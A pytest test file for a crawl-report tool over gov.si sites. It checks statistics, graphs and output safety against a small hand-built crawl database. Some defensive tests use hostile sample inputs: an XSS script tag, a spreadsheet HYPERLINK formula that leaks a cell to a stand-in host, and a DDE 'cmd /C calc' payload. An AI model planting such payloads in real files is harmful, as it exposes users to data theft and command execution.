"""The crawl report's numbers on a small hand-made crawldb (SQLite and PostgreSQL) whose
every figure is worked out by hand below, and its pure helpers with tables of cases."""

from __future__ import annotations

import csv
import html
import io
import json
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from sqlalchemy import Engine, insert, update

from govsi.report.build import Report, ReportError, build_report, host_of, report_engine
from govsi.report.charts import bars_svg, drawing, graph_svg, node_kind, radii, short
from govsi.report.graphs import Graph, spring_layout
from govsi.report.output import csv_cell, fmt, script_json, to_csv, write_report
from govsi.report.queries import rate_width
from govsi.report.sql import Scope
from govsi.store import database, schema

T0 = datetime(2026, 1, 1, 0, 0, 0)
A, B, C = "a.gov.si", "b.gov.si", "c.gov.si"

# id: (site, url path, type, status, seconds after T0 or None, depth, extra columns)
NEAR_1 = {"near_duplicate_of": 1, "similarity": 0.8}  # kept whole, flagged as resembling 1
PAGES: dict[int, tuple[str, str, str, int | None, int | None, int, dict[str, Any]]] = {
    1: (A, "/", "HTML", 200, 0, 0, {"rendered": True, "content_hash": "h1"}),
    2: (A, "/x", "HTML", 200, 10, 1, {"content_hash": "h2", **NEAR_1}),
    3: (A, "/dup", "DUPLICATE", 200, 20, 1, {"content_hash": "h1", "duplicate_of": 1}),
    4: (A, "/near", "DUPLICATE", 200, 30, 2, {"content_hash": "h9", "duplicate_of": 2}),
    5: (A, "/doc.pdf", "BINARY", 200, 40, 2, {}),
    6: (A, "/missing", "HTML", 404, 50, 2, {}),
    7: (B, "/", "HTML", 200, 65, 1, {}),
    8: (B, "/slow", "ERROR", None, 70, 2, {"fetch_error": "timeout"}),
    9: (C, "/", "FRONTIER", None, None, 2, {}),
    10: (B, "/later", "FRONTIER", None, None, 3, {}),
}
LINKS = [
    (1, 2),
    (1, 3),
    (1, 4),
    (1, 5),
    (1, 7),
    (2, 6),
    (2, 1),
    (7, 8),
    (7, 9),
    (7, 10),
    (7, 1),
    (2, 9),
]
# (page, image URL, content type, downloaded)
IMAGES = [
    (1, "https://a.gov.si/i1.png", "image/png", True),
    (1, "https://a.gov.si/i2.jpg", "image/jpeg", True),
    (2, "https://a.gov.si/i1.png", "image/png", True),
    (7, "https://b.gov.si/i3.gif", None, False),
]


def fill(engine: Engine) -> None:
    sites = {A: (1, "10.0.0.1", 5.0), B: (2, "10.0.0.2", 5.0), C: (3, None, None)}
    with engine.begin() as conn:
        conn.execute(
            insert(schema.SITE),
            [
                {"id": i, "domain": d, "ip_address": ip, "crawl_delay": delay}
                for d, (i, ip, delay) in sites.items()
            ],
        )
        originals = [p for p in PAGES.items() if "duplicate_of" not in p[1][6]]
        copies = [p for p in PAGES.items() if "duplicate_of" in p[1][6]]
        for batch in (originals, copies):
            conn.execute(
                insert(schema.PAGE),
                [
                    {
                        "id": pid,
                        "site_id": sites[host][0],
                        "url": f"https://{host}{path}",
                        "page_type_code": kind,
                        "http_status_code": status,
                        "accessed_time": None if at is None else T0 + timedelta(seconds=at),
                        "depth": depth,
                        **{"rendered": None, "content_hash": None, "fetch_error": None,
                           "near_duplicate_of": None, "similarity": None},
                        **extra,
                    }
                    for pid, (host, path, kind, status, at, depth, extra) in batch
                ],
            )
        conn.execute(
            insert(schema.PAGE_DATA), [{"page_id": 5, "data_type_code": "PDF", "size": 1000}]
        )
        conn.execute(
            insert(schema.IMAGE),
            [
                {
                    "page_id": p,
                    "url": u,
                    "filename": u.rsplit("/", 1)[1],
                    "content_type": ct,
                    "accessed_time": T0 if done else None,
                }
                for p, u, ct, done in IMAGES
            ],
        )
        conn.execute(insert(schema.LINK), [{"from_page": a, "to_page": b} for a, b in LINKS])


@pytest.fixture
def report(engine: Engine) -> Report:
    fill(engine)
    url = engine.url.render_as_string(hide_password=False)
    reader = report_engine(url)
    try:
        return build_report(reader, max_sites=10, max_pages=10)
    finally:
        reader.dispose()


def records(report: Report, scope: str, name: str) -> list[dict[str, Any]]:
    tables = dict(report.scopes_by_name()[scope])
    return tables[name].records()


def test_seed_sites_are_the_sites_of_depth_zero_pages(report: Report) -> None:
    assert report.seed_sites == [A]


SUMMARY = {
    "seed": dict(
        sites=1,
        sites_fetched=1,
        pages=6,
        pages_fetched=6,
        frontier=0,
        html=3,
        binary_pages=1,
        duplicates=2,
        rendered=1,
        documents=1,
        images=3,
        image_urls=2,
        links=8,
        links_to_other_sites=2,
        depth_reached=2,
        depth_discovered=2,
    ),
    "all": dict(
        sites=3,
        sites_fetched=2,
        pages=10,
        pages_fetched=8,
        frontier=2,
        html=4,
        binary_pages=1,
        duplicates=2,
        rendered=1,
        documents=1,
        images=4,
        image_urls=3,
        links=12,
        links_to_other_sites=4,
        depth_reached=2,
        depth_discovered=3,
    ),
}


@pytest.mark.parametrize("scope", ["seed", "all"])
def test_summary(report: Report, scope: str) -> None:
    assert records(report, scope, "summary") == [SUMMARY[scope]]


def test_pages_by_type_lists_every_type_with_zeros(report: Report) -> None:
    got = {r["page_type"]: r["pages"] for r in records(report, "seed", "pages_by_type")}
    assert got == {"HTML": 3, "DUPLICATE": 2, "BINARY": 1, "FRONTIER": 0, "OTHER": 0, "ERROR": 0}
    got = {r["page_type"]: r["pages"] for r in records(report, "all", "pages_by_type")}
    assert got == {"HTML": 4, "DUPLICATE": 2, "BINARY": 1, "FRONTIER": 2, "OTHER": 0, "ERROR": 1}


def test_duplicates_exact_by_equal_content_hash_else_near(report: Report) -> None:
    assert records(report, "all", "duplicates") == [
        {"kind": "exact", "pages": 1, "mean_similarity": None},
        {"kind": "near", "pages": 1, "mean_similarity": None},
        {"kind": "near, kept (flagged)", "pages": 1, "mean_similarity": 0.8},
    ]


def test_documents_by_type(report: Report) -> None:
    got = {
        r["data_type"]: (r["documents"], r["bytes"])
        for r in records(report, "all", "documents_by_type")
    }
    assert got == {
        "PDF": (1, 1000),
        "DOC": (0, None),
        "DOCX": (0, None),
        "PPT": (0, None),
        "PPTX": (0, None),
    }


def test_images_by_content_type_count_rows_and_distinct_urls(report: Report) -> None:
    assert records(report, "all", "image_types") == [
        {"content_type": "image/png", "images": 2, "distinct_urls": 1},
        {"content_type": "(not downloaded yet)", "images": 1, "distinct_urls": 1},
        {"content_type": "image/jpeg", "images": 1, "distinct_urls": 1},
    ]


def test_images_per_page_over_html_pages(report: Report) -> None:
    [seed] = records(report, "seed", "images_per_page")
    assert seed == {
        "html_pages": 3,
        "images": 3,
        "images_per_html_page": 1.0,
        "pages_with_images": 2,
        "most_on_one_page": 2,
    }
    [everything] = records(report, "all", "images_per_page")
    assert everything["html_pages"] == 4 and everything["images"] == 4
    assert records(report, "all", "images_per_page_histogram") == [
        {"images_on_page": "0", "html_pages": 1},
        {"images_on_page": "1", "html_pages": 2},
        {"images_on_page": "2-5", "html_pages": 1},
    ]


def test_status_codes_and_fetch_errors(report: Report) -> None:
    got = {r["status"]: r["pages"] for r in records(report, "all", "status_codes")}
    assert got == {None: 1, 200: 6, 404: 1}
    assert records(report, "all", "fetch_errors") == [{"error": "timeout", "pages": 1}]


def test_pages_per_depth_by_type(report: Report) -> None:
    got = [
        (r["depth"], r["pages"], r["html"], r["frontier"]) for r in records(report, "all", "depths")
    ]
    assert got == [(0, 1, 1, 0), (1, 3, 2, 0), (2, 5, 1, 1), (3, 1, 0, 1)]


def test_rendered_pages(report: Report) -> None:
    assert records(report, "all", "rendering") == [
        {"page_type": "DUPLICATE", "rendered": 0, "as_served": 2},
        {"page_type": "HTML", "rendered": 1, "as_served": 3},
    ]


def test_hosts_with_counts_and_mean_interval_between_fetches(report: Report) -> None:
    got = {r["host"]: r for r in records(report, "all", "hosts")}
    assert [r["host"] for r in records(report, "all", "hosts")] == [A, B, C]
    a, b, c = got[A], got[B], got[C]
    assert (a["pages"], a["fetched"], a["html"], a["duplicates"], a["errors"]) == (6, 6, 3, 2, 1)
    assert a["mean_interval"] == pytest.approx(10.0, abs=1e-3)  # 50 s over 5 gaps
    assert (a["crawl_delay"], a["ip_address"]) == (5.0, "10.0.0.1")
    assert a["first_fetch"].startswith("2026-01-01 00:00:00")
    assert (b["pages"], b["fetched"], b["frontier"], b["errors"]) == (3, 2, 1, 1)
    assert b["mean_interval"] == pytest.approx(5.0, abs=1e-3)
    assert (c["pages"], c["fetched"], c["mean_interval"]) == (1, 0, None)
    assert [r["host"] for r in records(report, "seed", "hosts")] == [A]


def test_crawl_rate_buckets_fill_gaps_with_zero(report: Report) -> None:
    rows = records(report, "all", "crawl_rate")
    assert len(rows) == 71  # 70 s at 1 s per bucket
    assert sum(r["pages"] for r in rows) == 8
    assert {r["seconds"] for r in rows if r["pages"]} == {0, 10, 20, 30, 40, 50, 65, 70}
    assert rows[0]["bucket_start_utc"] == "2026-01-01 00:00:00"


def test_domain_graph_weights_are_page_links(report: Report) -> None:
    g = report.domain_graph
    name = {n["id"]: n["label"] for n in g.nodes}
    edges = {(name[e["source"]], name[e["target"]]): e["links"] for e in g.edges}
    assert edges == {(A, B): 1, (A, C): 1, (B, A): 1, (B, C): 1}
    internal = {n["label"]: n["internal_links"] for n in g.nodes}
    assert internal == {A: 6, B: 2, C: 0}
    assert all(0 <= n["x"] <= 1 and 0 <= n["y"] <= 1 for n in g.nodes)


def test_site_graph_defaults_to_the_largest_seed_site(report: Report) -> None:
    g = report.site_graph
    assert g is not None and g.title.endswith(A)
    assert [n["id"] for n in g.nodes] == [1, 2, 3, 4, 5, 6]
    assert {(e["source"], e["target"]) for e in g.edges} == {
        (1, 2),
        (1, 3),
        (1, 4),
        (1, 5),
        (2, 6),
        (2, 1),
    }
    assert {n["id"]: n["links_in"] for n in g.nodes}[1] == 2  # from a.gov.si/x and b.gov.si/


def test_site_graph_samples_nearest_the_seed(engine: Engine) -> None:
    fill(engine)
    reader = report_engine(engine.url.render_as_string(hide_password=False))
    try:
        report = build_report(reader, site="https://b.gov.si/any", max_pages=2, seeds=[B, C])
    finally:
        reader.dispose()
    assert report.seed_sites == [B, C]
    g = report.site_graph
    assert g is not None and [n["id"] for n in g.nodes] == [7, 8]
    assert "2 of 3" in g.note
    assert records(report, "seed", "summary")[0]["pages"] == 4


def test_unknown_site_and_missing_database_are_clear_errors(engine: Engine, tmp_path: Any) -> None:
    reader = report_engine(engine.url.render_as_string(hide_password=False))
    try:
        with pytest.raises(ReportError, match="not in crawldb"):
            build_report(reader, site="nowhere.gov.si")
    finally:
        reader.dispose()
    with pytest.raises(ReportError, match="no crawldb at"):
        report_engine(f"sqlite:///{tmp_path / 'absent.sqlite3'}")
    assert not (tmp_path / "absent.sqlite3").exists()


def test_a_database_that_is_not_a_crawldb_is_refused(tmp_path: Any) -> None:
    path = tmp_path / "other.sqlite3"
    import sqlite3

    sqlite3.connect(path).execute("CREATE TABLE page (id integer)").connection.commit()
    reader = report_engine(f"sqlite:///{path}")
    try:
        with pytest.raises(ReportError, match=r"missing data_type.*page\.url"):
            build_report(reader)
    finally:
        reader.dispose()


# --- pure helpers --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("span", "width"),
    [
        (0, 1),
        (70, 1),
        (119, 1),
        (120, 2),
        (599, 5),
        (600, 10),
        (3600, 60),
        (86400, 900),
        (10**9, 31536000),
    ],
)
def test_rate_width(span: float, width: int) -> None:
    assert rate_width(span) == width


@pytest.mark.parametrize(
    ("given", "host"),
    [
        ("evem.gov.si", "evem.gov.si"),
        ("https://EVEM.gov.si/x?y", "evem.gov.si"),
        (" www.gov.si. ", "www.gov.si"),
        ("http://gov.si:8080/", "gov.si"),
    ],
)
def test_host_of(given: str, host: str) -> None:
    assert host_of(given) == host


def test_scope_conditions_are_integer_literals() -> None:
    assert Scope("all", "x").pages() == ""
    assert Scope("seed", "x", [3, 1]).pages("d") == " AND d.site_id IN (3, 1)"
    assert Scope("seed", "x", []).sites() == " AND s.id IN (NULL)"


def test_spring_layout_is_deterministic_in_the_unit_square_and_pulls_links_together() -> None:
    # Two triangles joined by one link: nodes of a triangle end nearer each other.
    edges = [
        (0, 1, 1.0),
        (1, 2, 1.0),
        (0, 2, 1.0),
        (3, 4, 1.0),
        (4, 5, 1.0),
        (3, 5, 1.0),
        (2, 3, 1.0),
    ]
    pos = spring_layout(6, edges)
    assert np.array_equal(pos, spring_layout(6, edges))
    assert pos.min() >= 0 and pos.max() <= 1
    d = np.linalg.norm(pos[:, None] - pos[None], axis=-1)
    within = np.mean([d[0, 1], d[1, 2], d[0, 2], d[3, 4], d[4, 5], d[3, 5]])
    across = np.mean([d[i, j] for i in (0, 1) for j in (4, 5)])
    assert within < across
    assert spring_layout(0, []).shape == (0, 2)
    assert spring_layout(1, []).tolist() == [[0.5, 0.5]]


def test_pictures_escape_text_from_the_crawl() -> None:
    evil = '<script>alert("x")</script>.gov.si'
    g = Graph("t", [{"id": 1, "label": evil, "pages": 3, "x": 0.5, "y": 0.5}], [])
    svg = graph_svg(drawing(g, labels=40))
    assert "<script>" not in svg and "&lt;script&gt;" in svg
    assert "<script>" not in bars_svg("t", [evil], [1], "x", "y")


def test_script_json_cannot_close_the_script_element() -> None:
    text = str(script_json({"label": "</script><b>&"}))
    assert "</script>" not in text and "<" not in text
    assert text == '{"label": "\\u003c/script\\u003e\\u003cb\\u003e\\u0026"}'


@pytest.mark.parametrize(
    ("value", "shown"),
    [(None, "—"), (True, "yes"), (1234567, "1,234,567"), (2.5, "2.50"), ("x", "x")],
)
def test_fmt(value: Any, shown: str) -> None:
    assert fmt(value) == shown


def test_csv_writes_empty_cells_for_null() -> None:
    assert to_csv(["a", "b"], [[1, None], ["x,y", 2]]) == 'a,b\r\n1,\r\n"x,y",2\r\n'


@pytest.mark.parametrize(
    ("node", "kind"),
    [
        ({"label": "a.gov.si", "pages": 3, "seed": True}, "seed"),
        ({"label": "b.gov.si", "pages": 3, "seed": False}, "site"),
        ({"label": "u", "page_type": "HTML", "depth": 0, "status": 200}, "seed"),
        ({"label": "u", "page_type": "HTML", "depth": 2, "status": 200}, "site"),
        ({"label": "u", "page_type": "HTML", "depth": 2, "status": 404}, "error"),
        ({"label": "u", "page_type": "ERROR", "depth": 2, "status": None}, "error"),
        ({"label": "u", "page_type": "BINARY", "depth": 2, "status": 200}, "BINARY"),
        ({"label": "u", "page_type": "DUPLICATE", "depth": 1, "status": 200}, "DUPLICATE"),
        ({"label": "u", "page_type": "FRONTIER", "depth": 3, "status": None}, "FRONTIER"),
        ({"label": "u", "page_type": "OTHER", "depth": 3, "status": 200}, "site"),
    ],
)
def test_node_kind(node: dict[str, Any], kind: str) -> None:
    assert node_kind(node) == kind


@pytest.mark.parametrize(
    ("label", "shown"),
    [
        ("evem.gov.si", "evem.gov.si"),
        ("https://www.gov.si/", "www.gov.si/"),
        ("https://www.gov.si/podrocja/a/?x=1", "/podrocja/a/?x=1"),
        ("http://gov.si", "gov.si"),
        ("https://gov.si/" + "d" * 60, "/" + "d" * 38 + "…"),
    ],
)
def test_short_names_are_hosts_or_paths(label: str, shown: str) -> None:
    assert short(label) == shown


def test_node_area_follows_weight_within_bounds() -> None:
    big, quarter, empty = radii([{"pages": 100}, {"pages": 25}, {"pages": 0}], area=10_000)
    assert 3.0 < quarter == pytest.approx(big / 2) and big < 24.0
    assert empty == 3.0
    assert radii([{"pages": 10**7}, {"pages": 1}], area=780 * 620)[0] == 24.0
    many = radii([{"pages": 50}] * 300, area=780 * 620)
    assert 3.0 <= many[0] < 8  # 300 sites still fit the picture


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class Shown:
    """A value the csv module writes as its str(), like a database type not listed here."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text

    def __repr__(self) -> str:
        return f"Shown({self.text!r})"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://zlo.example")', '\'=HYPERLINK("http://zlo.example")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("http://a.gov.si/=x", "http://a.gov.si/=x"),
        (" =1", " =1"),  # not at the start: text to every spreadsheet
        ("'=1", "'=1"),  # quoted already: left alone
        ("", ""),
        (None, ""),
        (-5, -5),  # numbers stay numbers, negative ones too
        (-0.5, -0.5),
        (Decimal("-2.25"), Decimal("-2.25")),
        (42, 42),
        (True, True),
        (Shown("=1+1"), "'=1+1"),
        (Shown("2026-01-01"), "2026-01-01"),
    ],
    ids=repr,
)
def test_csv_cells_that_would_be_formulas_are_neutralised(value: Any, cell: Any) -> None:
    written = csv_cell(value)
    assert str(written) == str(cell)
    if not isinstance(value, Shown):
        assert type(written) is type(cell)  # a number is written as a number


def test_csv_files_neutralise_headers_and_cells() -> None:
    assert to_csv(["=cmd", "url"], [["@x", -1], [None, "a"]]) == "'=cmd,url\r\n'@x,-1\r\n,a\r\n"


def test_line_breaks_inside_cells_cannot_start_a_row() -> None:
    # A bare CR ends a row to spreadsheets; unquoted, "\r=1" became a row starting "=1".
    rows = [["a\rb", 1], ["\r=1", 2], ["x\ny", 3], ["c\r\nd", 4]]
    text = to_csv(["error", "pages"], rows)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["error", "pages"], ["a\rb", "1"], ["'\r=1", "2"], ["x\ny", "3"], ["c\r\nd", "4"],
    ]  # fmt: skip


def test_no_csv_file_of_the_report_starts_a_cell_with_a_formula(
    engine: Engine, tmp_path: Path
) -> None:
    # Text from a hostile web in tables and graph files: fetch errors (which may quote the
    # server), Content-Types, host names.
    fill(engine)
    hostile = {
        "error": '=HYPERLINK("http://zlo.example/?"&A1,"klik")',
        "content_type": "@SUM(1+1)*cmd|' /C calc'!A0",
        "domain": "-2+3.gov.si",
    }
    with engine.begin() as conn:
        conn.execute(
            update(schema.PAGE).where(schema.PAGE.c.id == 8).values(fetch_error=hostile["error"])
        )
        conn.execute(update(schema.PAGE).where(schema.PAGE.c.id == 6).values(fetch_error="+1\t"))
        conn.execute(update(schema.PAGE).where(schema.PAGE.c.id == 10).values(fetch_error="\r=1"))
        conn.execute(update(schema.IMAGE).where(schema.IMAGE.c.url.like("%i1.png"))
                     .values(content_type=hostile["content_type"]))  # fmt: skip
        conn.execute(
            update(schema.SITE).where(schema.SITE.c.id == 3).values(domain=hostile["domain"])
        )
        # No crawl stores a negative number, but one must stay a number in the file.
        conn.execute(update(schema.SITE).where(schema.SITE.c.id == 1).values(crawl_delay=-1.5))
    reader = report_engine(engine.url.render_as_string(hide_password=False))
    try:
        report = build_report(reader, max_sites=10, max_pages=10)
    finally:
        reader.dispose()
    write_report(report, tmp_path)
    files = sorted((tmp_path / "csv").glob("*.csv"))
    assert len(files) == 2 * len(report.scopes[0][1]) + 4  # every table, both graphs
    cells: dict[str, list[str]] = {}
    for f in files:
        with f.open(encoding="utf-8", newline="") as stream:
            cells[f.name] = [cell for row in csv.reader(stream) for cell in row]
    for found in cells.values():
        for cell in found:
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start so: anything else is a formula
    assert "'" + hostile["error"] in cells["all_fetch_errors.csv"]
    assert {"'+1\t", "'\r=1"} <= set(cells["all_fetch_errors.csv"])
    assert "'" + hostile["content_type"] in cells["all_image_types.csv"]
    assert "'" + hostile["domain"] in cells["all_hosts.csv"]
    assert "'" + hostile["domain"] in cells["domain_graph_nodes.csv"]
    assert "-1.5" in cells["all_hosts.csv"]


SECRET = "s3cr3t"


def test_the_report_never_shows_the_crawldb_password(pg_cluster: Any, tmp_path: Path) -> None:
    # PostgreSQL only: SQLite takes no password, and would refuse one in the query.
    # Trust authentication: the server connects whatever the passwords say.
    plain = pg_cluster.create_database("report_passwords")
    engine = database.make_engine(plain)
    try:
        database.migrate(engine)
        fill(engine)
    finally:
        engine.dispose()
    url = plain.replace("govsi@", f"govsi:{SECRET}@") + f"?password={SECRET}&sslpassword={SECRET}"
    reader = report_engine(url)
    try:
        report = build_report(reader, max_sites=10, max_pages=10)
    finally:
        reader.dispose()
    shown = plain.replace("govsi@", "govsi:***@") + "?password=***&sslpassword=***"
    assert report.crawldb == shown
    written = write_report(report, tmp_path)
    assert json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))["crawldb"] == shown
    assert html.escape(shown) in (tmp_path / "index.html").read_text(encoding="utf-8")
    for path in written:
        assert SECRET not in path.read_text(encoding="utf-8"), path.name
